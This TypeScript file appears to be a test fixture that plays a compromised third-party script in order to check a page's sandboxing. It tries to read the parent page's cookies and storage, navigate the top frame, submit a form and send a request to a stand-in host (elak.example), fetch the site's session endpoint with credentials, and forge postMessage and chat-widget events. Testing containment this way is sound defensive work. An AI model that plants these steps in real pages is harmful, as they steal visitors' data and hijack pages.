/**
 * A third party's script that was taken over. It tries to read the page around it, to keep something in the browser, to
 * send the visitor elsewhere and to make the page do things, and leaves in `hostileTries` what each try gave. Sent to
 * browsers as text: it must not use anything outside itself.
 */
export function runHostile(): void {
  const tries: Record<string, string> = {};
  Object.assign(globalThis, { hostileTries: tries });
  const attempt = (name: string, act: () => unknown): void => {
    try {
      const got = act();
      tries[name] = got === undefined || got === null || got === "" ? "nothing" : `got ${typeof got}`;
    } catch {
      tries[name] = "refused";
    }
  };
  const later = (name: string, act: () => Promise<unknown>): void => {
    tries[name] = "waiting";
    act().then(
      () => void (tries[name] = "got an answer"),
      () => void (tries[name] = "refused"),
    );
  };
  attempt("read the page", () => parent.document.body.textContent);
  attempt("read the page's cookies", () => parent.document.cookie);
  attempt("read the page's storage", () => Object.keys(parent.sessionStorage).join());
  attempt("find its own frame", () => frameElement);
  attempt("read the referrer", () => document.referrer);
  attempt("read cookies", () => document.cookie);
  attempt("keep a cookie", () => {
    document.cookie = "_hostile=1; path=/";
    return document.cookie;
  });
  attempt("use local storage", () => localStorage.setItem("_hostile", "1") ?? "stored");
  attempt("use session storage", () => sessionStorage.setItem("_hostile", "1") ?? "stored");
  attempt("open a popup", () => open("https://elak.example/popup"));
  attempt("go elsewhere with the page", () => {
    if (top) top.location.href = "https://elak.example/top";
    return "went";
  });
  attempt("send a form over the page", () => {
    const form = document.createElement("form");
    form.action = "https://elak.example/form";
    form.target = "_top";
    document.body.append(form);
    form.submit();
  });
  later("ask our calls", () => fetch(new URL("/ajax/session/", location.href), { credentials: "include" }));
  later("ask another host", () => fetch("https://elak.example/collect", { mode: "no-cors" }));
  later("take the whole screen", () => document.documentElement.requestFullscreen());
  for (const message of [
    "opened",
    "minimized",
    "ready",
    { kind: "opened" },
    { kind: "resize", widthPx: 99_999, heightPx: 99_999 },
    { kind: "navigate", href: "https://elak.example/" },
    { event: "consent-update", consent: "1,2,3" },
  ])
    parent.postMessage(message, "*");
  // Looks as if it did its work, so that the page does not remove it.
  Object.assign(globalThis, { reviewWidget: { loadFromElement: () => undefined } });
  // The same event as the chat's own script dispatches: the bridge beside it trusts this.
  for (let count = 0; count < 50; count++) {
    dispatchEvent(new CustomEvent("chatwidget:minimized", { detail: { isByVisitor: true } }));
    dispatchEvent(new CustomEvent("chatwidget:opened", { detail: { isByVisitor: true } }));
  }
}
